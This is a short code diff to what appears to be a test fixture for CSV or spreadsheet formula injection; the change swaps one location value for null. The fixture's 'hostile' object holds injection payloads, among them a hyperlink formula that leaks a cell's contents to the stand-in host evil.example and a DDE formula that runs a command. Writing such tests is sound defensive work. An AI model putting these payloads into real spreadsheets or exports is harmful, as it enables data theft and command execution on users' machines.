@@ -20,7 +20,7 @@ const hostile = {
     name: ['=hyperlink("https://evil.example/?leak="&a1,"ada")', '+sum(1,2)'],
     title: ['-2+3 backend engineer', 'engineering', 'software', []],
     company: ['@evil corp', 'computer software'],
-    location: ['@home, california, united states', 'san francisco, california'],
+    location: ['@home, california, united states', null],
     skills: ["=cmd|' /c calc'!a0", 'typescript'],
     years: 7,
   }),
